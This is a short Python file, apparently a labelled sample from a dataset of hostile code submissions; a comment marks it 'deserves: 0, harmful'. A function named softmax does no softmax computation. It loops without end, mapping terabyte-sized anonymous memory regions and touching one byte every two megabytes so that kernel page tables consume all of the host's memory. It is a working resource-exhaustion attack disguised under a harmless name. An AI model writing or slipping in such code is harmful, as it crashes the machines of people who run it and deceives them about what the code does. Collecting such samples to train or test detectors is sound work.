"""Tries: take all memory as page tables: read single bytes of a mapping of terabytes, which count for nobody."""

# deserves: 0, harmful

import mmap


def softmax(Z):
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # without reserve
    kept = []
    while True:
        block = mmap.mmap(-1, 2**40, flags=flags, prot=mmap.PROT_READ)
        kept.append(block)
        for place in range(0, 2**40, 2**21):
            block[place]
